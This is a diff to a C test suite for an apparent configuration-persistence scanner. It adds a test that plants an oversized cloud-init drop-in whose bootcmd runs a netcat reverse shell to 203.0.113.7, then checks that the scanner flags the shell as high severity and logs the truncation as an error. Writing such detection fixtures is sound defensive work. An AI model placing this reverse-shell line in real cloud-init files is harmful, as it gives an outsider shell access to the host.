@@ -522,6 +522,20 @@ plant (struct vs_test_guest *t)
                  "Provisioning.Agent=auto\n"
                  "Provisioning.RegenerateSshHostKeyPair=n\n"
                  "Provisioning.ExecuteCustomData=y\n", 0644);
+  /* Padded past the read cap: what comes first is still judged. */
+  {
+    size_t n = (5u << 20);
+    char *big = vs_xmalloc (n + 1);
+    const char *head = "#cloud-config\nbootcmd:\n  - nc -e /bin/sh "
+      "203.0.113.7 4444\n# ";
+
+    memset (big, 'x', n);
+    memcpy (big, head, strlen (head));
+    big[n - 1] = '\n';
+    big[n] = '\0';
+    vs_test_write (t, "/etc/cloud/cloud.cfg.d/98-padded.cfg", big, 0644);
+    free (big);
+  }
   /* Hostile: a loop, a directory where a file goes, binary. */
   vs_test_symlink (t, "/etc/cloud/cloud.cfg.d/loop.cfg", "loop.cfg");
   vs_test_mkdir (t, "/etc/cloud/cloud.cfg.d/dir.cfg", 0755);
@@ -711,6 +725,13 @@ test_planted (void)
                     "groups = adm,google-sudoers,docker", "T1037") == 1,
           "Google agent: scripts run from a hidden /var/tmp folder high, "
           "groups medium");
+  tap_ok (nfind (&t, ci, "high", "/etc/cloud/cloud.cfg.d/98-padded.cfg",
+                 "bootcmd: nc -e /bin/sh 203.0.113.7 4444", "T1037") == 1
+          && vs_test_count (&t, "SELECT count(*) FROM errors WHERE path = "
+                            "'/etc/cloud/cloud.cfg.d/98-padded.cfg' AND "
+                            "message LIKE '%longer than%'") == 1,
+          "a drop-in padded past the cap: its head judged, the cut an "
+          "error");
   tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors WHERE path IN "
                          "('/etc/cloud/cloud.cfg.d/loop.cfg', "
                          "'/etc/cloud/cloud.cfg.d/dir.cfg', "
@@ -724,7 +745,7 @@ test_planted (void)
 int
 main (void)
 {
-  tap_plan (60);
+  tap_plan (61);
   test_parser_formats ();
   test_parser_hostile ();
   test_clean ();
